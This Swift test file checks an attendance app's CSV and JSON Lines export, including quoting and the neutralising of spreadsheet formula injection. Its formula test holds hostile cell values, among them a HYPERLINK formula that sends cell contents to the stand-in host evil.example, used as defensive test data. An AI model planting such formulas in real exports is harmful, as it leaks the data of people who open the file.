import Foundation
import Testing
@testable import KioskCore
@testable import ProgramFiles

@Suite("Attendance export formats")
struct AttendanceExportTests {
    let row = AttendanceReportRow(
        sessionID: "S1", sessionTitle: "Circle, \"A\"", sessionKind: .group, location: "Lobby",
        startsAt: Date(timeIntervalSince1970: 1_772_463_600), endsAt: Date(timeIntervalSince1970: 1_772_467_200),
        participantID: "E004", participantName: "Lena Novak", role: .mentee, cohort: "2026 autumn", groupID: "C1", memberRole: .mentee,
        expected: true, status: .late, checkedInAt: Date(timeIntervalSince1970: 1_772_464_000), checkedOutAt: nil,
        checkOutKind: nil, durationSeconds: nil, rating: nil, clockTrusted: false, kioskID: "k1")

    @Test("CSV: header, RFC 4180 quoting, CRLF, empty cells for nothing")
    func csv() throws {
        let text = String(decoding: try AttendanceExport.encode([row], as: .csv), as: UTF8.self)
        let header = AttendanceReportRow.columns.joined(separator: ",")
        let line = #"S1,"Circle, ""A""",group,Lobby,2026-03-02T15:00:00Z,2026-03-02T16:00:00Z,E004,Lena Novak,mentee,C1,mentee,true,late,2026-03-02T15:06:40Z,,,,,false,k1,2026 autumn"#
        #expect(text == header + "\r\n" + line + "\r\n")
        #expect(header.hasPrefix("session_id,session_title,session_kind,location,starts_at,ends_at,participant_id,"))
    }

    @Test("CSV cells that a spreadsheet would run as a formula get a ' in front; numbers and JSON Lines stay as they are")
    func formulasNeutralised() throws {
        var hostile = row
        hostile.participantName = #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#
        hostile.sessionTitle = "+SUM(1,2)"
        hostile.location = "@cmd"
        hostile.cohort = "-2+3"
        hostile.kioskID = "\tk1"
        hostile.groupID = "\rC1"
        let csv = String(decoding: try AttendanceExport.encode([hostile], as: .csv), as: UTF8.self)
        #expect(csv.contains(#","'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")","#), "\(csv)")
        #expect(csv.contains(#""'+SUM(1,2)""#) && csv.contains(",'@cmd,") && csv.contains(",'-2+3\r\n") && csv.contains(",'\tk1,"))
        #expect(csv.contains("\"'\rC1\""), "a CR cell is quoted and neutralised")
        for cell in ["-3", "+0.5", "-0.2500", "42", "plain", "'=already"] {
            #expect(SpreadsheetSafety.neutralised(cell) == cell, "\(cell) stays")
        }
        for cell in ["=1+1", "-", "-x", "+", "@", "\t", "\r", "=", "-1e5", "- 3"] {
            #expect(SpreadsheetSafety.neutralised(cell) == "'" + cell, "\(cell) is neutralised")
        }
        let jsonl = String(decoding: try AttendanceExport.encode([hostile], as: .jsonl), as: UTF8.self)
        #expect(jsonl.contains(#""participant_name":"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")""#), "\(jsonl)")
    }

    @Test("JSON Lines: every column, typed, null when empty, sorted keys")
    func jsonl() throws {
        let text = String(decoding: try AttendanceExport.encode([row, row], as: .jsonl), as: UTF8.self)
        let lines = text.split(separator: "\n")
        #expect(lines.count == 2)
        #expect(lines[0] == #"{"check_out_kind":null,"checked_in_at":"2026-03-02T15:06:40Z","checked_out_at":null,"clock_trusted":false,"cohort":"2026 autumn","duration_seconds":null,"ends_at":"2026-03-02T16:00:00Z","expected":true,"group_id":"C1","kiosk_id":"k1","location":"Lobby","member_role":"mentee","participant_id":"E004","participant_name":"Lena Novak","rating":null,"role":"mentee","session_id":"S1","session_kind":"group","session_title":"Circle, \"A\"","starts_at":"2026-03-02T15:00:00Z","status":"late"}"#)
    }
}
